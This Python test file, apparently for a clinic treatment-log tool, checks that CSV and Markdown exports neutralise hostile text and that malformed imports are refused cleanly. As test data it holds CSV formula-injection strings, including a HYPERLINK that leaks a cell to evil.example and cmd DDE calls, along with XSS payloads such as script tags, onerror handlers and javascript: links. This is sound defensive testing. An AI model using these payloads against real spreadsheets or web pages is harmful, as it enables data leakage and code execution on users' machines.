"""Hostile text in exports and imports (issue 13, findings 4, 8, 9 and 10): a CSV cell a
spreadsheet would run as a formula is neutralised and read back exactly; the Markdown export
shows stored text as text; `tplog import` refuses an unreadable file in one line, writing
nothing; import and `tplog log` refuse the same point in the same words."""

import csv
import io
import json
import re

import pytest
from markdown_it import MarkdownIt

from tests.conftest import assert_refused, new_clinic
from tplog.export.csv_format import HEADER

# OWASP "CSV Injection": what a spreadsheet runs, as entered.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "\uff1d1+1",  # a full-width equals sign
]
# Stored text never starts with a space or tab (tplog strips what is typed or imported, and
# refuses a CR), but the writer neutralises such a start all the same (older records).
LEADING_BLANKS = ["\t=1+1", " =1+1", "\r=1+1", "  @SUM(1)"]
# Texts that start with ' and then a formula's start: quoted once more, so the import can
# take exactly one ' off.
QUOTED_ALREADY = ["'=already quoted", "''+twice quoted"]
# Left as they are, both ways: plain numbers, a ' before anything else, ordinary text.
AS_THEY_ARE = ["-2", "1.5", "'tis", "plain text", "a note\n=1+1 on its second line"]


def _csv(rows):
    """A CSV in tplog's format: one visit per row, each with one point."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")  # as Excel writes it; a CR is quoted
    writer.writerow(HEADER)
    # By name: a column added later (a finding, a procedure detail, a lot) is left empty.
    base = dict.fromkeys(HEADER, "") | {
        "mrn": "P0001", "patient_name": "Ada Lovelace", "date_of_birth": "1950-12-10",
        "sex": "female", "weight_kg": "61.5", "visit": "1", "visit_date": "2026-03-01",
        "practitioner": "Dr Finch", "conditions": "myofascial-pain", "point": "1",
        "muscle": "deltoid", "side": "L", "pain_before": "6", "pain_after": "2",
        "twitch_response": "yes", "soreness": "mild", "numbness": "no",
        "drug": "lidocaine-1", "volume_ml": "1"}
    for number, changes in enumerate(rows, start=1):
        row = {**base, "visit": str(number), "visit_date": f"2026-03-{number:02d}", **changes}
        writer.writerow([row.get(h, "") for h in HEADER])
    return out.getvalue()


def _notes_by_date(clinic, mrn="P0001"):
    history = json.loads(clinic.ok("history", mrn, "--json").stdout)
    return {v["visit_date"]: v["note"] for v in history["visits"]}


def _export_csv(clinic, path):
    clinic.ok("export", "--all", "--format", "csv", "-o", str(path))
    with path.open(encoding="utf-8", newline="") as exported:  # as written, CRs kept
        return exported.read()


def _cells(text):
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _runs_as_formula(cell):
    """What a spreadsheet would run: a formula's start (also after spaces), not a number."""
    return bool(re.match(r" *[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]", cell)) \
        and not re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", cell)


# --- (4) formula injection ---------------------------------------------------------------

def test_formula_cells_are_neutralised_and_the_round_trip_is_exact(clinic, tmp_path):
    notes = FORMULAS + QUOTED_ALREADY + AS_THEY_ARE
    source = tmp_path / "hostile.csv"
    source.write_text(_csv(
        [{"patient_name": '=HYPERLINK("http://evil.example","x")',
          "practitioner": "+cmd|' /C calc'!A0",
          # A text starting ' then = is written as the export writes it (the import takes one
          # ' off such a cell).
          "visit_note": "'" + note if note in QUOTED_ALREADY else note} for note in notes]),
        encoding="utf-8")
    clinic.ok("import", str(source))
    stored = _notes_by_date(clinic)
    assert sorted(stored.values()) == sorted(notes)  # imported as written

    exported = _export_csv(clinic, tmp_path / "out.csv")
    rows = _cells(exported)
    by_note = {}
    for row in rows:
        for column, cell in row.items():
            assert not _runs_as_formula(cell), (column, cell)  # no cell runs as a formula
        by_note[stored[row["visit_date"]]] = row["visit_note"]
    assert rows[0]["patient_name"] == '\'=HYPERLINK("http://evil.example","x")'
    assert rows[0]["practitioner"] == "'+cmd|' /C calc'!A0"
    for note in FORMULAS + QUOTED_ALREADY:
        assert by_note[note] == "'" + note  # one ' in front, OWASP's neutralisation
    for note in AS_THEY_ARE:
        assert by_note[note] == note
    assert rows[0]["weight_kg"] == "61.5" and rows[0]["pain_before"] == "6"

    # export -> import -> export: the same file, the same records.
    with new_clinic(clinic.backend, tmp_path, "target", current=True) as target:
        target.ok("import", str(tmp_path / "out.csv"))
        assert _notes_by_date(target) == stored
        patient = json.loads(target.ok("history", "P0001", "--json").stdout)["patient"]
        assert patient["name"] == '=HYPERLINK("http://evil.example","x")'
        assert _export_csv(target, tmp_path / "again.csv") == exported
        # Importing the export again adds nothing: it reads back as what is stored.
        again = target.ok("import", str(tmp_path / "out.csv"))
        assert f"0 visit(s) with 0 point(s); {len(notes)} visit(s) were already there" in \
            again.stderr


@pytest.mark.parametrize("text", LEADING_BLANKS)
def test_a_blank_before_a_formula_is_neutralised_by_the_writer(text):
    from tplog.export.csv_format import neutralised
    from tplog.export.csv_import import restored

    assert neutralised(text) == "'" + text
    assert restored(neutralised(text)) == text


def test_a_carriage_return_before_a_formula_is_neutralised(clinic, tmp_path):
    """A CR can only come in through an import (the CLI keeps control characters out): if the
    import takes it, the export neutralises it and reads it back; if it refuses it, in one
    line, the text never gets in."""
    source = tmp_path / "cr.csv"
    source.write_text(_csv([{"visit_note": "\r=1+1"}]), encoding="utf-8", newline="")
    result = clinic.run("import", str(source))
    if result.exit_code != 0:
        assert_refused(result, 2, str(source))
        assert clinic.count("visit") == 0
        return
    assert list(_notes_by_date(clinic).values()) == ["\r=1+1"]
    exported = _export_csv(clinic, tmp_path / "out.csv")
    assert _cells(exported)[0]["visit_note"] == "'\r=1+1"  # one cell, quoted
    with new_clinic(clinic.backend, tmp_path, "target", current=True) as target:
        target.ok("import", str(tmp_path / "out.csv"))
        assert list(_notes_by_date(target).values()) == ["\r=1+1"]
        assert _export_csv(target, tmp_path / "again.csv") == exported


def test_text_entered_on_the_command_line_is_neutralised_too(clinic, tmp_path):
    clinic.ok("patient", "add", "@SUM(1+1)")
    clinic.ok("log", "P0001", "--date", "2026-03-01", "--practitioner", "=1+1",
              "--note=-2+3+cmd|' /C calc'!A0\tand a tab", "--point", "deltoid:L pre=5 post=2")
    clinic.ok("log", "P0001", "--date", "2026-03-02", "--practitioner", "Dr Finch",
              "--note=-2", "--point", "deltoid:L pre=5 ml=1.5")
    rows = _cells(_export_csv(clinic, tmp_path / "out.csv"))
    assert [(r["patient_name"], r["practitioner"], r["visit_note"]) for r in rows] == [
        ("'@SUM(1+1)", "'=1+1", "'-2+3+cmd|' /C calc'!A0\tand a tab"),
        ("'@SUM(1+1)", "Dr Finch", "-2")]  # -2 is a number, not a formula
    assert rows[1]["volume_ml"] == "1.5"


def test_a_hand_written_quote_before_a_formula_is_taken_off_and_any_other_kept(clinic,
                                                                             tmp_path):
    """In a spreadsheet, '= is how text starting with = is typed: the import reads it as that
    text. A ' before anything else is part of the text."""
    source = tmp_path / "typed.csv"
    source.write_text(_csv([{"patient_name": "'tis Ada", "visit_note": "'=SUM(1+1)"},
                            {"patient_name": "'tis Ada", "visit_note": "'tis fine"}]),
                      encoding="utf-8")
    clinic.ok("import", str(source))
    assert sorted(_notes_by_date(clinic).values()) == ["'tis fine", "=SUM(1+1)"]
    patient = json.loads(clinic.ok("history", "P0001", "--json").stdout)["patient"]
    assert patient["name"] == "'tis Ada"


# --- (8) Markdown ------------------------------------------------------------------------

HOSTILE_NOTE = "\n".join([
    "first line",
    "# Heading",
    "[x](javascript:alert(1))",
    "<script>alert(2)</script>",
    "- a list item",
    "1. a numbered one",
    "> a quote",
    "===",
    "| a | b |",
    "|---|---|",
    "```",
    "*emphasis* _too_ ~~struck~~ `code` ![img](javascript:alert(3)) &lt;b&gt;",
])


def _render(markdown):
    # CommonMark with raw HTML allowed (as many renderers do), plus GFM tables and
    # strikethrough.
    return MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(markdown)


def test_markdown_shows_stored_text_as_text(clinic, tmp_path):
    clinic.ok("patient", "add", "<script>alert(1)</script> # *Ada*")
    clinic.ok("log", "P0001", "--date", "2026-03-01",
              "--practitioner", "<img src=x onerror=alert(1)> [Dr](javascript:alert(1))",
              "--note", HOSTILE_NOTE, "--point", "deltoid:L pre=5 post=2")
    out = tmp_path / "summary.md"
    clinic.ok("export", "--all", "--format", "md", "-o", str(out))
    html = _render(out.read_text(encoding="utf-8"))
    lowered = html.lower()
    for found in ("<script", "<img", 'href="javascript:', "<blockquote", "<ol", "<pre",
                  "<code", "<del", "<strong", "<b>"):
        assert found not in lowered, (found, html)
    # tplog's own structure only: the title, one heading per patient and per visit, its
    # lists and its one table of points.
    assert re.findall(r"<h(\d)>", html) == ["1", "2", "3"]
    assert html.count("<table>") == 1
    # The safety finding recorded with the visit (no weight on record): tplog's own list.
    assert [item.split(":")[0] for item in re.findall(r"<li>(.*?)</li>", html)] == [
        "Practitioner", "Conditions", "Reduction of mean pain", "weight"]
    assert [e[:4] for e in re.findall(r"<em>(.*?)</em>", html)] == ["CPT ", "Afte"]
    assert "<h2>&lt;script&gt;alert(1)&lt;/script&gt; # *Ada* (MRN P0001)</h2>" in html
    assert ("<li>Practitioner: &lt;img src=x onerror=alert(1)&gt; [Dr](javascript:alert(1))"
            "</li>") in html
    # The note is one paragraph: its lines kept, each shown as typed.
    note = re.search(r"<p>Note: (.*?)</p>", html, re.S).group(1)
    assert note.split("<br />\n") == [
        "first line", "# Heading", "[x](javascript:alert(1))",
        "&lt;script&gt;alert(2)&lt;/script&gt;", "- a list item", "1. a numbered one",
        "&gt; a quote", "===", "| a | b |", "|---|---|", "```",
        "*emphasis* _too_ ~~struck~~ `code` ![img](javascript:alert(3)) &amp;lt;b&amp;gt;"]


def test_markdown_of_an_imported_record_with_other_line_breaks(clinic, tmp_path):
    source = tmp_path / "lines.csv"
    source.write_text(_csv([{"patient_name": "Ada\n# Lovelace", "visit_note":
                             "a\r\n\r\n## two\rthree\n\n\n<b>four</b>"}]),
                      encoding="utf-8", newline="")
    result = clinic.run("import", str(source))
    if result.exit_code != 0:  # a name with a line break may be refused: then it is not in
        assert_refused(result, 2, str(source))
        return
    out = tmp_path / "summary.md"
    clinic.ok("export", "--all", "--format", "md", "-o", str(out))
    html = _render(out.read_text(encoding="utf-8"))
    assert re.findall(r"<h(\d)>", html) == ["1", "2", "3"] and "<b>" not in html
    assert "<h2>Ada # Lovelace (MRN P0001)</h2>" in html
    assert "<p>Note: a<br />\n## two<br />\nthree<br />\n&lt;b&gt;four&lt;/b&gt;</p>" in html


# --- (9) import: one line, nothing written ------------------------------------------------

def _template(clinic):
    return clinic.ok("import", "--template").stdout


def _assert_refused_whole(clinic, result, *fragments):
    assert_refused(result, 2, *fragments)
    assert len(result.stderr.strip().splitlines()) == 1, result.stderr
    assert clinic.counts() == {"patient": 0, "visit": 0, "visit_condition": 0,
                               "injected_point": 0}
    assert clinic.count("audit_event") == 0


@pytest.mark.parametrize("name, content, fragments", [
    ("latin1.csv", lambda t: t.replace("first visit", "caf\u00e9").encode("latin-1"),
     ["line 2: byte 0xE9 is not UTF-8"]),
    ("utf16.csv", lambda t: t.encode("utf-16"), ["is UTF-16 text"]),
    ("utf16be.csv", lambda t: t.encode("utf-16-be"), ["has NUL bytes"]),
    ("utf16le.csv", lambda t: t.encode("utf-16-le"), ["has NUL bytes"]),
    ("picture.csv", lambda t: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40, ["has NUL bytes"]),
    ("not-utf8.csv", lambda t: b"\xfd\xfc\xfb" * 100, ["line 1: byte 0xFD is not UTF-8"]),
    ("huge.csv", lambda t: t.replace("first visit", "x" * 140_000).encode(),
     ["line 2: a cell is over 131072 characters"]),
])
def test_an_unreadable_file_is_refused_in_one_line(clinic, tmp_path, name, content,
                                                   fragments):
    source = tmp_path / name
    source.write_bytes(content(_template(clinic)))
    _assert_refused_whole(clinic, clinic.run("import", str(source)), str(source), *fragments)


def _late(rows_before, bad_row):
    """Many good visits (more than the first block the importer looks at, and several
    batches), then a bad one."""
    good = _csv([{"mrn": f"Q{n}", "patient_name": f"Patient {n}", "visit_date": "2026-03-01"}
                 for n in range(1, rows_before + 1)]).encode()
    return good, good + bad_row + b"\n", rows_before + 2  # the bad row's line


@pytest.mark.parametrize("bad_row, fragment", [
    (b"Q9999,Caf\xe9,,,,9999,2026-03-01,,Dr Finch,,,1,deltoid,L,5,,,,,,", "byte 0xE9 is not "
     "UTF-8"),
    (b"Q9999,Nul\x00Byte,,,,9999,2026-03-01,,Dr Finch,,,1,deltoid,L,5,,,,,,", "a cell holds a "
     "NUL character"),
    (b"Q9999,Long,,,,9999,2026-03-01,,Dr Finch,\"" + b"x" * 140_000 + b"\",,1,deltoid,L,5,,,,,,",
     "a cell is over 131072 characters"),
])
def test_an_unreadable_line_after_batches_were_written_leaves_nothing(clinic, tmp_path,
                                                                      monkeypatch, bad_row,
                                                                      fragment):
    from tplog.export import csv_import as importer

    monkeypatch.setattr(importer, "BATCH_VISITS", 50)
    source = tmp_path / "late.csv"
    good, content, line = _late(600, bad_row)
    assert len(content) > 70_000  # beyond what is looked at before the file is read
    source.write_bytes(good)
    clinic.ok("import", str(source), "--dry-run")  # all good up to the bad line
    source.write_bytes(content)
    _assert_refused_whole(clinic, clinic.run("import", str(source)), str(source),
                          f"line {line}: {fragment}")
    assert "holds" in clinic.ok("audit", "verify").stdout


def test_utf8_with_a_byte_order_mark_is_read(clinic, tmp_path):
    """Excel's "CSV UTF-8" starts with a byte order mark."""
    source = tmp_path / "excel.csv"
    source.write_bytes(_template(clinic).replace("first visit", "café").encode("utf-8-sig"))
    clinic.ok("import", str(source))
    assert list(_notes_by_date(clinic, "P0001").values()) == ["café"]


# --- (10) import: the point checks of tplog log ---------------------------------------------

DRY_NEEDLING_WITH_VOLUME = ("a volume (1 mL) is not allowed with dry-needling: dry needling "
                            "injects nothing")


def test_import_refuses_a_point_tplog_log_refuses_in_the_same_words(clinic, tmp_path):
    clinic.ok("patient", "add", "Ada Lovelace")
    assert_refused(clinic.run("log", "P0001", "--point", "deltoid:L pre=5 drug=dry-needling "
                                                         "ml=1"),
                   2, f"point 1: {DRY_NEEDLING_WITH_VOLUME}")
    assert_refused(clinic.run("log", "P0001", "--drug", "dry-needling", "--ml", "1",
                              "--point", "deltoid:L pre=5"),
                   2, f"point 1: {DRY_NEEDLING_WITH_VOLUME}")
    source = tmp_path / "dry.csv"
    source.write_text(_csv([{"mrn": "P0001", "drug": "dry-needling", "volume_ml": "1"}]))
    assert_refused(clinic.run("import", str(source)), 2,
                   f"line 2: {DRY_NEEDLING_WITH_VOLUME}", "nothing was imported")
    assert clinic.count("visit") == 0
    # Without the volume, both take it.
    source.write_text(_csv([{"mrn": "P0001", "drug": "dry-needling", "volume_ml": ""}]))
    clinic.ok("import", str(source))
    clinic.ok("log", "P0001", "--point", "deltoid:R pre=5 drug=dry-needling")
    assert clinic.count("visit") == 2
